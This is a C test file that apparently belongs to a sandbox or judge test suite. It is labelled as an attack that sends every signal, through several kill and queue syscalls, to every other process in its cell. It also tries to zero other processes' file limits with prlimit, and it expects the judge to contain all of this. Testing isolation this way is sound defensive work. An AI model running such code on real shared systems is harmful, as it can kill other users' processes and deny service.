/*
 * attack: every signal to every process and thread of the cell, by every call, so that no other run starts
 * problem: twice
 * expect: Accepted
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Numbers go on from run to run: there may be ten thousands that nobody has. */
static bool is_there(int tid)
{
	return syscall(SYS_tkill, tid, 0) == 0 || errno != ESRCH;
}

int main(void)
{
	long a, b;

	scanf("%ld %ld", &a, &b);
	for (int pid = 1; pid < getpid(); pid++)
		for (int sig = 1; sig < 65 && is_there(pid); sig++) {
			siginfo_t info = { .si_signo = sig, .si_code = SI_QUEUE };

			kill(pid, sig);
			syscall(SYS_tkill, pid, sig);
			syscall(SYS_tgkill, 1, pid, sig);
			syscall(SYS_rt_sigqueueinfo, pid, sig, &info);
			syscall(SYS_rt_tgsigqueueinfo, 1, pid, sig, &info);
		}
	for (int pid = 1; pid < getpid(); pid++)
		if (prlimit(pid, RLIMIT_NOFILE, &(struct rlimit){ 0, 0 }, NULL) == 0)
			b = 1000;
	printf("%ld\n", a + b);
	return 0;
}
